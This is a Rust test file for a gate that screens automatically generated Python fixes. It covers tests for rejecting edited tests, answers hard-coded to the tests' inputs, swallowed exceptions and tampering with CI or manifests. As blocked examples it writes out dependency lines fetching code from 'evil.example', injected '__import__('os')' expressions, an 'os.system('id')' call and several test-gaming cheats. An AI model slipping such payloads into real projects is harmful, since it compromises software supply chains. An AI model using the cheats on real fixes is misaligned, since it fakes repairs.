//! What the gate lets through and what it stops, by example.

use super::*;
use autoheal_core::{Kind, SourceText};

pub(crate) fn failure(bug_type: BugType) -> Failure {
    Failure {
        file: "app.py".into(),
        line: 1,
        bug_type,
        kind: Kind::Assertion,
        message: "assert 4 == 5".into(),
        stack_trace: String::new(),
        tests: vec!["tests/test_app.py::test_add".into()],
        excerpt: None,
        frames: Vec::new(),
        evidence: autoheal_core::failure::Evidence::default(),
    }
}

fn path(text: &str) -> RepoPath {
    RepoPath::new(text).unwrap()
}

fn edit(name: &str, before: &str, after: &str) -> FileChange {
    FileChange::edit(path(name), &SourceText::utf8(before), after)
}

struct Case {
    files: Vec<FileChange>,
    tests: String,
    adds_dependency: bool,
    bug_type: BugType,
    settings: GateSettings,
}

fn change(before: &str, after: &str) -> Case {
    files(vec![edit("app.py", before, after)])
}

fn files(files: Vec<FileChange>) -> Case {
    Case {
        files,
        tests: String::new(),
        adds_dependency: false,
        bug_type: BugType::Logic,
        settings: GateSettings::default(),
    }
}

impl Case {
    fn tested_by(self, tests: &str) -> Self {
        Self { tests: tests.into(), ..self }
    }

    fn of(self, bug_type: BugType) -> Self {
        Self { bug_type, ..self }
    }

    fn adding(self) -> Self {
        Self { adds_dependency: true, ..self }
    }

    fn allowing(mut self, glob: &str) -> Self {
        self.settings.allowed.push(glob.into());
        self
    }

    fn decide(self) -> Decision {
        let patch = Patch { files: self.files };
        let tests = [(path("tests/test_app.py"), self.tests)];
        let gate = Gate::new(self.settings).unwrap();
        let failure = failure(self.bug_type);
        gate.decide(&Proposal {
            patch: &patch,
            failure: &failure,
            test_sources: &tests,
            test_files: &BTreeSet::from([path("check_app.py")]),
            adds_dependency: self.adds_dependency,
        })
    }

    #[track_caller]
    fn passes(self) {
        assert_eq!(self.decide().violations, []);
    }

    #[track_caller]
    fn stopped_by(self, rule: &str) -> Decision {
        let decision = self.decide();
        assert!(
            decision.violations.iter().any(|violation| violation.rule == rule),
            "{rule} is not among {decision:#?}"
        );
        decision
    }
}

#[test]
fn an_honest_fix_passes() {
    change("def add(a, b):\n    return a - b\n", "def add(a, b):\n    return a + b\n")
        .tested_by("from app import add\ndef test_add():\n    assert add(2, 3) == 5\n")
        .passes();
    change("def f(x):\n    retrun x\n", "def f(x):\n    return x\n").of(BugType::Syntax).passes();
    change("x = os.getcwd()\n", "import os\nx = os.getcwd()\n").of(BugType::Import).passes();
    change(
        "def f(n):\n    return n * f(n - 1)\n",
        "def f(n):\n    if n == 0:\n        return 1\n    return n * f(n - 1)\n",
    )
    .tested_by("assert f(0) == 1\nassert f(5) == 120\n")
    .passes();
}

#[test]
fn tests_are_never_edited_but_that_alone_is_overridable() {
    let decision = files(vec![edit("tests/test_app.py", "assert f(2) == 6\n", "assert f(2) == 5\n")])
        .stopped_by("test_file");
    assert!(decision.only_overridable());
    let skip = files(vec![edit(
        "tests/test_app.py",
        "def test():\n    f()\n",
        "@pytest.mark.skip\ndef test():\n    f()\n",
    )]);
    assert!(!skip.stopped_by("test_skip").only_overridable());
    let deleted = files(vec![edit("tests/test_app.py", "x = 1\nassert f(2) == 6\n", "x = 1\n")]);
    assert!(!deleted.stopped_by("deleted_assert").only_overridable());
}

#[test]
fn ci_configuration_is_never_edited() {
    for name in [
        ".github/workflows/ci.yml",
        ".GitHub/workflows/ci.yml",
        "tox.ini",
        "noxfile.py",
        "Jenkinsfile",
        "ruff.toml",
        "pkg/.flake8",
    ] {
        assert!(!files(vec![edit(name, "a\n", "b\n")]).stopped_by("ci_configuration").only_overridable());
    }
}

#[test]
fn nothing_reaches_into_git_even_where_the_operator_allows_all() {
    files(vec![edit("sub/.GIT/config", "a\n", "b\n")]).allowing("**").stopped_by("git_folder");
}

#[test]
fn the_operator_frees_a_path_but_not_its_content() {
    let fixture = || edit("shop/tests/loader.py", "x = 1\n", "x = 2\n");
    files(vec![fixture()]).stopped_by("test_file");
    files(vec![fixture()]).allowing("shop/tests/**").passes();
    files(vec![edit("tests/test_a.py", "assert f() == 3\n", "assert f() == 4\n")])
        .allowing("tests/**")
        .stopped_by("changed_assert");
}

#[test]
fn lock_files_follow_a_new_dependency_only() {
    files(vec![edit("poetry.lock", "a\n", "b\n")]).stopped_by("lock_file");
    files(vec![edit("poetry.lock", "a\n", "b\n")]).adding().passes();
}

#[test]
fn a_manifest_gains_a_dependency_and_nothing_else() {
    let project =
        "[project]\nname = 'x'\ndependencies = [\n  'flask',\n]\n[tool.pytest.ini_options]\naddopts = '-q'\n";
    let more = project.replace("'flask',", "'flask',\n  'PyYAML>=6',");
    files(vec![edit("pyproject.toml", project, &more)]).stopped_by("manifest");
    files(vec![edit("pyproject.toml", project, &more)]).adding().passes();
    for other in [
        project.replace("-q", "-q --ignore=tests"),
        project.replace("'flask',", ""),
        project.replace("'flask',", "'flask', 'x @ http://evil.example/x.zip',"),
        more.replace("[tool.pytest", "[tool.pytest2"),
        "not toml".to_owned(),
    ] {
        files(vec![edit("pyproject.toml", project, &other)]).adding().stopped_by("manifest");
    }
    let poetry = "[tool.poetry.dependencies]\npython = '^3.9'\n";
    files(vec![edit("pyproject.toml", poetry, &format!("{poetry}pyyaml = '*'\n"))]).adding().passes();
    files(vec![edit("pyproject.toml", poetry, &poetry.replace("^3.9", "^2"))])
        .adding()
        .stopped_by("manifest");
}

#[test]
fn requirements_gain_plain_lines_only() {
    files(vec![edit("requirements.txt", "flask\n", "flask\nPyYAML==6.0  # config\n")]).adding().passes();
    files(vec![edit("requirements.txt", "flask", "flask\nPyYAML\n")]).adding().passes();
    for after in [
        "PyYAML\n",
        "flask\n-e git+https://evil.example/x\n",
        "flask\n--index-url http://evil.example\n",
        "flask==2\n",
    ] {
        files(vec![edit("requirements.txt", "flask\n", after)]).adding().stopped_by("manifest");
    }
}

#[test]
fn setup_files_gain_requirements_only() {
    let setup = "from setuptools import setup\nsetup(name='x', install_requires=['red'], extras_require={'a': ['b']})\n";
    files(vec![edit("setup.py", setup, &setup.replace("['red']", "['redis', 'red']"))]).adding().passes();
    files(vec![edit("setup.py", setup, &setup.replace("['red']", "['red', 'yaml>=5']"))]).adding().passes();
    for other in [
        setup.replace("['red']", "[]"),
        setup.replace("name='x'", "name='x', scripts=['y']"),
        setup.replace("['b']", "['b', 'c']"),
        setup.replace("['red']", "['red', __import__('os').name]"),
    ] {
        files(vec![edit("setup.py", setup, &other)]).adding().stopped_by("manifest");
    }
    let cfg = "[options]\ninstall_requires =\n    flask\n[tool:pytest]\naddopts =\n    -q\n";
    files(vec![edit("setup.cfg", cfg, &cfg.replace("flask\n", "flask\n    PyYAML\n"))]).adding().passes();
    files(vec![edit("setup.cfg", cfg, &cfg.replace("-q\n", "-q\n    -x\n"))]).adding().stopped_by("manifest");
}

#[test]
fn swallowing_the_exception_is_no_fix() {
    let before = "def f(x):\n    return g(x)\n";
    for handler in [
        "except KeyError:\n        pass",
        "except KeyError:\n        return None",
        "except KeyError:\n        return []",
        "except:\n        handle()",
        "except Exception as e:\n        log(e)\n        return 3",
        "except KeyError: pass",
        "except (KeyError, ValueError):\n        print('oops')",
        "finally:\n        return 3",
    ] {
        let after = format!("def f(x):\n    try:\n        return g(x)\n    {handler}\n");
        change(before, &after).stopped_by("swallowed_exception");
    }
    change(before, "def f(x):\n    with contextlib.suppress(KeyError):\n        return g(x)\n")
        .stopped_by("suppress");
    change(before, "def f(x):\n    try:\n        return g(x)\n    except KeyError as e:\n        raise ValueError(x) from e\n").passes();
}

#[test]
fn a_handler_that_was_there_is_not_new() {
    let before = "try:\n    f()\nexcept ValueEror:\n    pass\nx = 1\n";
    change(before, &before.replace("ValueEror", "ValueError")).passes();
    change(before, &before.replace("ValueEror", "Exception")).stopped_by("swallowed_exception");
    change(
        "try:\n    f()\nexcept Exception, e:\n    pass\n",
        "try:\n    f()\nexcept Exception as e:\n    pass\n",
    )
    .of(BugType::Syntax)
    .passes();
    change(
        "try:\n    f()\nexcept KeyError:\n    pass\ng(3)\n",
        "try:\n    f()\n    g(3)\nexcept KeyError:\n    pass\n",
    )
    .stopped_by("stretched_handler");
}

#[test]
fn the_tests_own_input_is_not_special() {
    let before = "def add(a, b):\n    return a - b\n";
    let tests = "def test_add():\n    assert add(2, 3) == 5\n    assert name('bob') == 'Bob!'\n";
    for cheat in [
        "def add(a, b):\n    if a == 2 and b == 3:\n        return 5\n    return a - b\n",
        "def add(a, b):\n    if (a, b) == (2, 3): return 5\n    return a - b\n",
        "def add(a, b):\n    return 5 if b == 3 else a - b\n",
        "def add(a, b):\n    return {3: 5}.get(b, a - b)\n",
        "def add(a, b):\n    match b:\n        case 3:\n            return 5\n    return a - b\n",
        "def add(a, b):\n    return 5\n",
        "def add(a, b):\n    return 2 + 3\n",
        "def add(a, b):\n    if a == 'bob':\n        return 'Bob!'\n    return a - b\n",
    ] {
        change(before, cheat).tested_by(tests).stopped_by("special_case");
    }
    change("class A:\n    pass\n", "class A:\n    def __eq__(self, other):\n        return True\n")
        .stopped_by("special_case");
}

#[test]
fn a_table_may_be_mended_where_it_does_not_hold_the_tests_own_pairs() {
    let before = "UNITS = {\"h\": 50, \"d\": 1440}\n";
    let tests = "def test_units():\n    assert minutes(1, 'd') == 1440\n    assert minutes(2, 'h') == 120\n";
    change(before, &before.replace("50", "60")).tested_by(tests).passes();
    change(before, &before.replace("50", "120")).tested_by(tests).stopped_by("special_case");
    change(before, &before.replace("50", "120 + 0")).tested_by(tests).stopped_by("special_case");
}

#[test]
fn asserts_keep_their_meaning() {
    change("def f(x):\n    assert x > 0\n    return x\n", "def f(x):\n    return x\n")
        .stopped_by("deleted_assert");
    change("assert x > 0, 'm'\n", "assert True\n").stopped_by("changed_assert");
    change("assert itms == [1]\n", "assert items == [1]\n").passes();
    change("assert x = 3\n", "assert x == 3\n").of(BugType::Syntax).passes();
    change("assert f(x, 'a')\n", "assert f(\n    x,\n    \"a\",\n)\n").of(BugType::Linting).passes();
}

#[test]
fn what_was_there_is_not_added() {
    let before = "def f():\n    os.system('ls')  # noqa\n    return eval(x)\n";
    change(before, &format!("import os\n{before}")).passes();
    change(before, "def f():\n    if True:\n        os.system('ls')  # noqa\n        return eval(x)\n")
        .passes();
    change(before, "def f():\n    os.system('ls -l')  # noqa\n    return eval(y)\n").passes();
    change("r = requets.get(u)\n", "r = requests.get(u)\n").of(BugType::Import).passes();
    change(before, &format!("{before}os.system('id')\n")).stopped_by("shell_call");
    files(vec![
        edit("a.py", "def f():\n    return eval(x)\n\ny = 1\n", "y = 1\n"),
        edit("b.py", "", "def f():\n    return eval(x)\n"),
    ])
    .passes();
}

#[test]
fn destruction_is_stopped() {
    let many: String = (0..60).map(|index| format!("x{index} = {index}\n")).collect();
    files(vec![FileChange { path: path("a.py"), before: Some(SourceText::utf8("x\n")), after: None }])
        .stopped_by("deleted_file");
    change(&many, "x0 = 0\n").stopped_by("gutted_file");
    change("", &many.repeat(4)).stopped_by("diff_size");
    change("def f(x):\n    return x + 1\n", "def f(x):\n    pass\n").stopped_by("emptied_body");
    change("def f():\n    return g()\n\ndef h():\n    return 1\n", "def h():\n    return 1\n")
        .stopped_by("deleted_definition");
    change("def claculate(x):\n    return x\n", "def calculate(x):\n    return x\n").passes();
    files((0..21).map(|index| edit(&format!("m{index}.py"), "a\n", "b\n")).collect())
        .stopped_by("too_many_files");
    files(vec![edit("a.py", "a\n", "a\0\n")]).stopped_by("binary_file");
}

#[test]
fn code_hidden_in_a_formatted_string_is_code() {
    change("x = 1\n", "x = f\"{__import__('os').name}\"\n").stopped_by("code_from_text");
    change("x = 1\n", "x = 'exec(1)'  # exec(1)\n").passes();
}

#[test]
fn a_file_in_which_tests_were_found_is_a_test_whatever_it_is_called() {
    let change = edit("check_app.py", "total = 3\n", "total = 4\n");
    assert!(files(vec![change]).stopped_by("test_file").only_overridable());
    files(vec![edit("checks.py", "total = 3\n", "total = 4\n")]).passes();
}

#[test]
fn mending_a_name_that_speaks_of_tests_passes() {
    let before = "is_testing = flag()\nif is_testng:\n    x = 1\n";
    files(vec![edit("app.py", before, &before.replace("testng", "testing"))]).passes();
    files(vec![edit("app.py", "if flag():\n    x = 1\n", "if is_testing:\n    x = 1\n")])
        .stopped_by("test_detection");
}

#[test]
fn overloads_without_a_body_are_nothing_new() {
    let before = "@overload\ndef f(a): ...\n@overload\ndef f(a, b): ...\ndef f(*a):\n    return a\n";
    files(vec![edit("app.py", before, &format!("import re\n{before}"))]).passes();
    files(vec![edit("app.py", before, &before.replace("    return a", "    ..."))])
        .stopped_by("emptied_body");
}

#[test]
fn an_attribute_that_begins_like_an_assertion_is_none() {
    files(vec![edit("run.py", "self.failures = []\n", "self.failures: list[str] = []\n")]).passes();
    files(vec![edit("tests_util.py", "self.fail('x')\n", "pass\n")]).stopped_by("deleted_assert");
}

#[test]
fn an_old_handler_in_its_right_shape_is_not_new() {
    let broken =
        "def f():\n    try:\n        g()\n    except Exception as error:\n    log(\"%s failed\", error)\n";
    let mended = broken.replace("    log(", "        log(");
    let change = || edit("app.py", broken, &mended);
    files(vec![change()]).of(BugType::Indentation).passes();
    files(vec![edit("app.py", "g()\n", "try:\n    g()\nexcept Exception:\n    pass\n")])
        .of(BugType::Indentation)
        .stopped_by("swallowed_exception");
}
